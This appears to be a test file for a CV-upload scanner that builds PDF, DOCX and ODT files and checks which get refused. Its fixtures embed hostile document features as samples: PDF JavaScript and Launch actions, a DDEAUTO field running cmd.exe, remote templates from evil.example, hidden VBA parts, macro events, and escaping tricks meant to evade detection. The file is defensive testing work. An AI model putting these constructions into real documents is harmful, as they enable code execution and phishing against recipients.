import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { deflateRawSync, deflateSync } from 'node:zlib';
import { zip } from '../../test/forms';
import { inspectUpload } from './uploads';

/** Issue 40 point 4: what a PDF or an office file holds is read, compressed or escaped. */
const dir = mkdtempSync(path.join(tmpdir(), 'arbora-upload-content-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let n = 0;
async function ext(bytes: Buffer, name: string): Promise<string | null> {
  const file = path.join(dir, String((n += 1)));
  writeFileSync(file, bytes);
  return (await inspectUpload(file, name, 'document'))?.ext ?? null;
}

/**
 * A one-page PDF (pdf-lib reads it) whose catalog opens object 5, written in a Flate-compressed
 * object stream (`compressed`) or as a plain object; `extra` is added to the page's dictionary.
 */
function pdf(action: string, { compressed = false, catalog = '/OpenAction 5 0 R', extra = '' } = {}): Buffer {
  const head =
    '%PDF-1.5\n' +
    `1 0 obj<</Type/Catalog/Pages 2 0 R${catalog}>>endobj\n` +
    '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
    `3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]${extra}>>endobj\n`;
  if (!compressed) return Buffer.from(`${head}5 0 obj${action}endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`, 'latin1');
  const objects = `5 0 ${action}`;
  const first = '5 0 '.length;
  const data = deflateSync(Buffer.from(`5 0 ${objects.slice(first)}`, 'latin1'));
  return Buffer.concat([
    Buffer.from(`${head}4 0 obj<</Type/ObjStm/N 1/First ${first}/Filter/FlateDecode/Length ${data.length}>>stream\n`),
    data,
    Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
}
/** Adler-32 of `bytes`, the checksum that ends a zlib stream. */
function adler32(bytes: Buffer): number {
  let a = 1;
  let b = 0;
  for (const byte of bytes) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return ((b << 16) | a) >>> 0;
}
/**
 * A PDF whose object 5 (opened by the catalog) sits in an object stream whose zlib data starts with
 * a stored block holding `(endstream)`, the action itself compressed after it.
 */
function endstreamInside(action: string): Buffer {
  const plain = Buffer.from('5 0 <</T(endstream)', 'latin1');
  const rest = Buffer.from(action.replace(/^<</, ''), 'latin1');
  const stored = Buffer.alloc(5);
  stored.writeUInt8(0, 0); // not the last block, stored
  stored.writeUInt16LE(plain.length, 1);
  stored.writeUInt16LE(~plain.length & 0xffff, 3);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(adler32(Buffer.concat([plain, rest])));
  const data = Buffer.concat([Buffer.from([0x78, 0x01]), stored, plain, deflateRawSync(rest), sum]);
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction 5 0 R>>endobj\n' +
        '2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
        '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n' +
        `4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${data.length}>>stream\n`,
      'latin1',
    ),
    data,
    Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n', 'latin1'),
  ]);
}
/** A page whose content stream is compressed and shows the given text. */
const withContent = (text: string) => {
  const content = deflateSync(Buffer.from(`BT /F1 12 Tf 72 712 Td (${text}) Tj ET`));
  return Buffer.concat([
    Buffer.from(
      '%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n' +
        '3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R>>endobj\n' +
        `4 0 obj<</Filter/FlateDecode/Length ${content.length}>>stream\n`,
    ),
    content,
    Buffer.from('\nendstream\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
  ]);
};

describe('PDF', () => {
  test('harmless PDFs pass, with object streams, compressed text and « React/JS » in a string', async () => {
    expect(await ext(pdf('<</S/URI/URI(https://exemple.fr/cv)>>'), 'cv.pdf')).toBe('pdf');
    expect(await ext(pdf('<</S/URI/URI(https://exemple.fr/cv)>>', { compressed: true }), 'cv.pdf')).toBe('pdf');
    expect(await ext(withContent('Développeuse React/JS, JavaScript'), 'cv.pdf')).toBe('pdf');
    expect(await ext(pdf('<</Title(Lancement /Launch de projets)>>'), 'cv.pdf')).toBe('pdf');
  });

  test.each([
    ['JavaScript in an object stream', pdf('<</S/JavaScript/JS(app.alert(1))>>', { compressed: true })],
    ['JavaScript with escaped names', pdf('<</S/J#61vaScript/J#53(app.alert(1))>>')],
    ['escaped JavaScript in an object stream', pdf('<</S/J#61vaScript/J#53(x)>>', { compressed: true })],
    ['a Launch action', pdf('<</S/Launch/F(calc.exe)>>')],
    ['an escaped Launch action in an object stream', pdf('<</S/L#61unch/F(calc.exe)>>', { compressed: true })],
    [
      'an embedded file in an object stream',
      pdf('<</Type/Filespec/F(x.exe)/EF<</F 6 0 R>>>>', {
        compressed: true,
        catalog: '/Names<</EmbeddedFiles<</Names[(x) 5 0 R]>>>>',
      }),
    ],
    ['an escaped embedded-files tree', pdf('<<>>', { catalog: '/Names<</Embedded#46iles<</Names[]>>>>' })],
    ['a page action', pdf('<<>>', { catalog: '', extra: '/AA<</O<</S/JavaScript/JS(x)>>>>' })],
  ])('refuses %s', async (_label, bytes) => {
    expect(await ext(bytes, 'cv.pdf')).toBeNull();
  });

  test.each([
    // `stream` inside a string is no stream: what follows it is still the object's dictionary.
    ['a word « stream » in a string', pdf('<</Length1 1/T(stream\n)/S/JavaScript/JS(app.alert(1))/U(endstream)>>')],
    // The compressed data may hold the bytes `endstream`: the stream ends where its /Length says.
    ['bytes « endstream » inside an object stream', endstreamInside('<</S/JavaScript/JS(app.alert(1))>>')],
    ['escapes in lowercase hex there', endstreamInside('<</S/#4aavaScript/#4aS(app.alert(1))>>')],
  ])('the parsed objects are read too: refuses %s', async (_label, bytes) => {
    expect(await ext(bytes, 'cv.pdf')).toBeNull();
  });

  test('an object stream it cannot decode is refused', async () => {
    const bytes = Buffer.from(
      pdf('<<>>', { compressed: true }).toString('latin1').replace('/Filter/FlateDecode', '/Filter/LZWDecode'),
      'latin1',
    );
    expect(await ext(bytes, 'cv.pdf')).toBeNull();
  });
});

const CONTENT_TYPES =
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
  '</Types>';
const rels = (...relationships: string[]) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationships.join('')}</Relationships>`;
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const docx = (parts: [string, string | Buffer][] = [], contentTypes = CONTENT_TYPES) =>
  zip([['[Content_Types].xml', contentTypes], ['word/document.xml', '<?xml version="1.0"?><w:document/>'], ...parts], {
    deflate: true,
  });
const OLE = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(512)]);

describe('DOCX', () => {
  test('a compressed DOCX with a hyperlink to a profile passes', async () => {
    const link = `<Relationship Id="rId1" Type="${R}/hyperlink" Target="https://exemple.fr/profil" TargetMode="External"/>`;
    expect(await ext(docx([['word/_rels/document.xml.rels', rels(link)]]), 'cv.docx')).toBe('docx');
  });

  test.each([
    [
      'a remote template in the settings',
      docx([
        [
          'word/_rels/settings.xml.rels',
          rels(
            `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`,
          ),
        ],
      ]),
    ],
    [
      'a linked picture',
      docx([
        [
          'word/_rels/document.xml.rels',
          rels(`<Relationship Id="rId2" Type="${R}/image" Target="\\\\evil\\share\\x.png" TargetMode="External"/>`),
        ],
      ]),
    ],
    [
      'a VBA project under another name, declared by its relationship',
      docx([
        ['word/data.bin', OLE],
        [
          'word/_rels/document.xml.rels',
          rels(
            '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="data.bin"/>',
          ),
        ],
      ]),
    ],
    [
      'a macro-enabled main part',
      docx([], CONTENT_TYPES.replace('wordprocessingml.document.main+xml', 'ms-word.document.macroEnabled.main+xml')),
    ],
    ['an OLE part named like a picture', docx([['word/media/image1.png', OLE]])],
  ])('refuses %s', async (_label, bytes) => {
    expect(await ext(bytes, 'cv.docx')).toBeNull();
  });

  // Word reads these parts with an XML parser: quotes, character references and part names as it does.
  test.each([
    [
      'a remote template in single quotes',
      `<Relationship Id='rId1' Type='${R}/attachedTemplate' Target='https://evil.example/t.dotm' TargetMode='External'/>`,
    ],
    [
      'an external target mode written with character references',
      `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xtern&#x61;l"/>`,
    ],
    [
      'a « > » inside an attribute before the target mode',
      `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://evil.example/a>b" TargetMode="External"/>`,
    ],
    [
      'a VBA relationship type written with a character reference',
      '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/&#118;baProject" Target="data.bin"/>',
    ],
  ])('refuses %s', async (_label, relationship) => {
    expect(await ext(docx([['word/_rels/settings.xml.rels', rels(relationship)]]), 'cv.docx')).toBeNull();
  });

  test('refuses a relationship part whose name is in capitals (part names ignore case)', async () => {
    const template = `<Relationship Id="rId1" Type="${R}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`;
    expect(await ext(docx([['word/_RELS/settings.xml.RELS', rels(template)]]), 'cv.docx')).toBeNull();
  });

  /** A main document part whose paragraph holds the given runs. */
  const withBody = (runs: string) =>
    zip(
      [
        ['[Content_Types].xml', CONTENT_TYPES],
        [
          'word/document.xml',
          `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p>${runs}</w:p></w:body></w:document>`,
        ],
      ],
      { deflate: true },
    );
  const field = (...instructions: string[]) =>
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
    instructions.map((text) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`).join('') +
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>';

  test('a DOCX with page and hyperlink fields passes', async () => {
    const runs = field(' PAGE ') + field(' HYPERLINK "https://exemple.fr/profil" ');
    expect(await ext(withBody(runs), 'cv.docx')).toBe('docx');
  });

  test.each([
    ['a DDE field split over runs', field(' DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')],
    ['a simple DDE field', '<w:fldSimple w:instr=" DDEAUTO c:\\\\x.exe &quot;a&quot; "/>'],
    ['a picture included from a server', field(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png" \\d ')],
    ['a text included from a web page', field(' INCLUDETEXT "https://evil.example/x.docx" ')],
  ])('refuses %s', async (_label, runs) => {
    expect(await ext(withBody(runs), 'cv.docx')).toBeNull();
  });

  test('refuses a macro-enabled content type written with a character reference', async () => {
    const types = CONTENT_TYPES.replace(
      'wordprocessingml.document.main+xml',
      'ms-word.document.m&#97;croEnabled.main+xml',
    );
    expect(await ext(docx([], types), 'cv.docx')).toBeNull();
  });
});

const odt = (content: string, manifest = '') =>
  zip([
    ['mimetype', 'application/vnd.oasis.opendocument.text'],
    [
      'content.xml',
      `<?xml version="1.0"?><office:document-content><office:scripts/>${content}</office:document-content>`,
    ],
    ...(manifest ? ([['META-INF/manifest.xml', manifest]] as [string, string][]) : []),
  ]);

describe('ODT', () => {
  test('an ODT with a hyperlink passes', async () => {
    expect(await ext(odt('<text:a xlink:href="https://exemple.fr/profil">profil</text:a>'), 'cv.odt')).toBe('odt');
  });

  test.each([
    ['a picture fetched from outside', odt('<draw:image xlink:href="http://evil.example/pixel.png"/>')],
    ['a section linked to a remote file', odt('<text:section-source xlink:href="file:///etc/passwd"/>')],
    [
      'a macro bound to an event',
      odt(
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>',
      ),
    ],
    [
      'a picture fetched from outside, in single quotes',
      odt("<draw:image xlink:href='http://evil.example/pixel.png'/>"),
    ],
    [
      'a macro link written with character references',
      odt('<text:a xlink:href="vnd.sun.st&#97;r.script:Standard.Module1.Main">clic</text:a>'),
    ],
    [
      'a Basic library declared in the manifest under another name',
      odt(
        '',
        '<manifest:manifest><manifest:file-entry manifest:full-path="Lib/" manifest:media-type="application/vnd.sun.star.basic"/></manifest:manifest>',
      ),
    ],
  ])('refuses %s', async (_label, bytes) => {
    expect(await ext(bytes, 'cv.odt')).toBeNull();
  });
});
